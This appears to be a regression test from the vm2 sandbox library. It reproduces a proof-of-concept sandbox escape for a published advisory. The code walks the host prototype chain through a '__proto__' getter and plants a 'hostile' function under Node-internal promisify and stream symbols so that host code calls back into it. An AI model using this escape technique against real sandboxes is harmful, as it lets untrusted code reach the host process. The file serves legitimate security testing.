// Source: vm2 test/ghsa/GHSA-m5q2-4fm3-vfqp (fixed after vm2 3.11.2, by 3.12.2; PoC shape from vm2's lib/bridge.js and
// lib/setup-sandbox.js comments for it): `nodejs.util.promisify.custom` and the stream brand symbols
// are Node-internal cross-realm hooks outside the two keys vm2 filtered; a sandbox value carrying
// them steered host promisify/stream code into calling sandbox functions with host arguments.
// Tried: obtain each symbol (Symbol.for, host objects, host Object via the __proto__ walk) and hang
// hooks under them on values the sandbox hands to host code.
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
const out = {};
const keys = ['nodejs.util.promisify.custom', 'nodejs.stream.readable', 'nodejs.stream.writable', 'nodejs.stream.destroyed', 'nodejs.stream.errored'];
const symbols = [];
for (const key of keys) symbols.push(Symbol.for(key));
try {
  const g = ({}).__lookupGetter__;
  const a = Buffer.apply;
  const raw = a.apply(g, [Buffer, ['__proto__']]);
  const p = typeof raw === 'function' ? raw : { call: (x) => Object.getPrototypeOf(x) };
  const HObject = p.call(p.call(a)).constructor;
  for (const source of [Buffer.prototype, Buffer, crypto.createHash]) for (const s of HObject.getOwnPropertySymbols(source)) symbols.push(s);
} catch (e) { out.walk = String(e.message).slice(0, 60); }
out.symbols = symbols.map((s) => String(s));
const hostile = function (...args) { for (const x of args) __wr.use(x, 'promisify/stream hook argument'); __wr.use(this, 'hook this'); return Promise.resolve('HIJACKED'); };
for (const s of symbols) {
  for (const target of [crypto.createHash, Buffer.from, {}]) {
    try { target[s] = hostile; } catch (e) {}
    try { Object.create(target)[s] = hostile; } catch (e) {}
  }
}
const carrier = {};
for (const s of symbols) carrier[s] = hostile;
console.log(carrier);
try { crypto.createHash(carrier); } catch (e) {}
try { Buffer.from(carrier); } catch (e) {}
return out;
